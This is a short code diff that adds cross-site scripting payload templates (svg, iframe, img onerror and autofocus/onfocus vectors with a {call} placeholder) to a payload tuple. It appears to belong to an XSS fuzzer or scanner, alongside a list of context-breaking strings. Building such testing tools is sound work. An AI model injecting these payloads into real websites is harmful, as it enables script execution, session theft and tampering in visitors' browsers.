@@ -20,6 +20,12 @@ TAGS: Final = (
     "<audio src=x onerror={call}></audio>", "<embed src='javascript:{call}'>",
     "<select autofocus onfocus={call}></select>",
     "<div style='width:expression({call})' onmouseover={call}>x</div>",
+    "<image src=x onerror={call}>", "<svg><set onbegin={call} attributeName=x dur=1s></svg>",
+    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>", "<marquee onstart={call}>x</marquee>",
+    "<p contenteditable autofocus onfocus={call}>x</p>", "<dialog open onfocus={call}><input autofocus></dialog>",
+    "<svg><style><img src=x onerror={call}></style></svg>", "<textarea autofocus onfocus={call}></textarea>",
+    "<iframe onload={call}></iframe>", "<svg><use href='data:image/svg+xml,<svg onload={call}/>'></svg>",
+    "<button popovertarget=x onfocus={call} autofocus>x</button>", "<x tabindex=0 autofocus onfocus={call}>x</x>",
 )  # fmt: skip
 BREAKS: Final = (
     '"', "'", "</mark>", "-->", "]]>", '">', "'>", "</title>", "</textarea>", "\u2028", "\0", "&quot;>", "&#39;>",
